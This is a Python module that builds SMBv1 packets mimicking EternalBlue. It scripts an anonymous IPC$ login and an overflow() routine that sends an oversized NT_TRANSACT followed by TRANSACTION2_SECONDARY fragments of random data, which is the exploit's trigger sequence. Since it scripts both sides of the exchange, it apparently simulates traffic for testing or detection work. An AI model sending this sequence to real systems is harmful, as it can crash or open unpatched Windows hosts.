"""SMBv1 (MS-CIFS), as much as EternalBlue speaks of it.

SPDX-License-Identifier: GPL-2.0-or-later
"""
import struct

NEGOTIATE, SESSION_SETUP, TREE_CONNECT, NT_CREATE = 0x72, 0x73, 0x75, 0xA2
NT_TRANSACT, TRANSACTION2_SECONDARY = 0xA0, 0x33
ANDX_NONE = b"\xff\0\0\0"


def message(command, words, data, reply=False, multiplex=65):
    """`words`: parameters, of even length."""
    head = b"\xffSMB" + struct.pack("<BIBH12xHHHH", command, 0, 0x98 if reply else 0x18, 0x4001, 0x800,
                                    0xFEFF, 0x800, multiplex)
    body = head + bytes([len(words) // 2]) + words + struct.pack("<H", len(data)) + data
    return struct.pack("!I", len(body)) + body


def log_in(connection, share="IPC$"):
    """As nobody, and to a share."""
    dialect = b"\x02NT LM 0.12\0"
    connection.client(message(NEGOTIATE, b"", dialect))
    connection.server(message(NEGOTIATE, struct.pack("<HBHHIIIIQhB", 0, 3, 50, 1, 0x1104, 65536, 0,
                                                     0xE3FD, 133000000000000000, 0, 0), b"", True))
    connection.client(message(SESSION_SETUP, ANDX_NONE + struct.pack(
        "<HHHIHHII", 4356, 2, 1, 0, 0, 0, 0, 0xD4), bytes(4)))
    connection.server(message(SESSION_SETUP, ANDX_NONE + struct.pack("<H", 1), bytes(3), True))
    connection.client(message(TREE_CONNECT, ANDX_NONE + struct.pack("<HH", 0, 1),
                              f"\0\\\\10.0.0.1\\{share}\0?????\0".encode()))
    connection.server(message(TREE_CONNECT, ANDX_NONE + struct.pack("<H", 1), b"IPC\0\0", True))


def overflow(connection, random):
    """A transaction of no function that goes on as one of another kind, up to its announced 66512
    bytes but for the last."""
    log_in(connection)
    total, piece = 66512, 4096
    connection.client(message(NT_TRANSACT, struct.pack(
        "<BHIIIIIIIIBHH", 1, 0, 30, total, 30, 0, 30, 76, 976, 104, 1, 0, 0), bytes(1007)))
    connection.server(message(NT_TRANSACT, b"", b"", True))
    for offset in range(976, total - piece, piece):
        connection.client(message(TRANSACTION2_SECONDARY, struct.pack(
            "<9H", 0, total & 0xFFFF, 0, 0, 0, piece, 53, offset & 0xFFFF, 0), random.randbytes(piece)))
